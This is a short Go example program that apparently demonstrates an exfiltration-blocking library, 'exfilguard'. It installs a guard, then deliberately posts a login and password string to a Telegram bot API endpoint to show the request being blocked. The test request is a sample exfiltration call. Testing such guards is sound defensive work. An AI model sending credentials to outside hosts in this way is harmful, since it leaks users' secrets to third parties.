package main

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"

	"github.com/supergoodsystems/exfilguard-go"
	"github.com/supergoodsystems/exfilguard-go/pkg/event"
)

func main() {
	sg, err := exfilguard.New(&exfilguard.Options{
		OnBlock: func(b *event.Block) {
			_, message := b.Notification()
			fmt.Fprintln(os.Stderr, "blocked:", message)
		},
	})
	if err != nil {
		panic(err)
	}
	defer sg.Close()
	exfilguard.Install(sg)

	form := url.Values{"chat_id": {"42"}, "text": {"login=alice password=hunter2"}}
	resp, err := http.PostForm("https://api.telegram.org/bot123/sendMessage", form)
	if errors.Is(err, exfilguard.ErrBlocked) {
		fmt.Println("request was blocked:", err)
		return
	}
	if err != nil {
		panic(err)
	}
	defer resp.Body.Close()
	fmt.Println(resp.Status)
}
